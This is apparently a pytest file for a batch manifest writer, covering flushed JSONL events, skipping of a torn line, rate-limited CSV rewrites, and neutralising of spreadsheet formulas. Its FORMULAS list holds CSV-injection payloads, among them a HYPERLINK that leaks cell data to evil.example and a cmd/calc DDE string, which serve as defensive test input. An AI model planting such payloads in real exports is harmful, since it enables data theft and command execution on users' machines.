"""A batch's manifest: one JSONL line per event, flushed at once; the CSV table rewritten
whole, at most every CSV_EVERY seconds unless forced; a torn last line is skipped."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from genwidgets.lab.manifest import COLUMNS, Manifest, read_manifest


def test_events_are_appended_and_readable_before_close(tmp_path: Path) -> None:
    manifest = Manifest(tmp_path, "b1")
    manifest.event({"row": 0, "status": "created", "request_id": "r0"})
    manifest.event({"row": 0, "status": "done", "files": ["00000-a.png"]})
    manifest.event({"row": 1, "status": "failed", "error": "boom"})
    lines = (tmp_path / "manifest.jsonl").read_text().splitlines()  # flushed: no close yet
    assert [json.loads(line)["status"] for line in lines] == ["created", "done", "failed"]
    assert all(json.loads(line)["batch"] == "b1" for line in lines)
    assert read_manifest(tmp_path)[0]["files"] == ["00000-a.png"]
    manifest.close()


def test_a_torn_last_line_is_skipped(tmp_path: Path) -> None:
    (tmp_path / "manifest.jsonl").write_text('{"row": 0, "status": "done"}\n{"row": 1, "sta')
    assert list(read_manifest(tmp_path)) == [0]
    assert read_manifest(tmp_path / "nowhere") == {}


def test_the_csv_table_is_rewritten_whole_at_most_so_often(tmp_path: Path) -> None:
    manifest = Manifest(tmp_path, "b1")
    first = [{"row": 0, "status": "waiting", "payload": {"prompt": "a, b"}, "files": []}]
    assert manifest.due()
    assert manifest.table(first)
    assert not manifest.due()
    later = [{"row": 0, "status": "done", "files": ["x.png", "y.png"], "payload": {}}]
    assert not manifest.table(later)  # too soon: the first table stands
    assert manifest.table(later, force=True)
    with open(tmp_path / "manifest.csv", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == list(COLUMNS)
    assert rows[1][:7] == ["0", "", "", "done", "", "", "x.png; y.png"]
    assert not list(tmp_path.glob(".*part"))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_no_cell_of_the_csv_table_starts_a_formula_and_the_jsonl_keeps_the_text(
    tmp_path: Path,
) -> None:
    """Every text a gateway or a row sends, formula-shaped, in every column."""
    manifest = Manifest(tmp_path, "b")
    records = [
        {
            "row": i,
            "status": text,
            "endpoint": text,
            "request_id": text,
            "files": [text, "ok.png"],
            "error": text,
            "payload": {"prompt": text},
            "updated_at": text,
        }
        for i, text in enumerate(FORMULAS)
    ]
    for record in records:
        manifest.event(record)
    manifest.table(records, force=True)
    manifest.close()
    with open(tmp_path / "manifest.csv", encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    assert header == list(COLUMNS) and len(rows) == len(FORMULAS)
    for text, row in zip(FORMULAS, rows, strict=True):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (text, cell)
        assert row[COLUMNS.index("request_id")] == "'" + text  # shown as the text it was
        assert row[COLUMNS.index("files")] == f"'{text}; ok.png"
    assert [r["request_id"] for r in read_manifest(tmp_path).values()] == FORMULAS
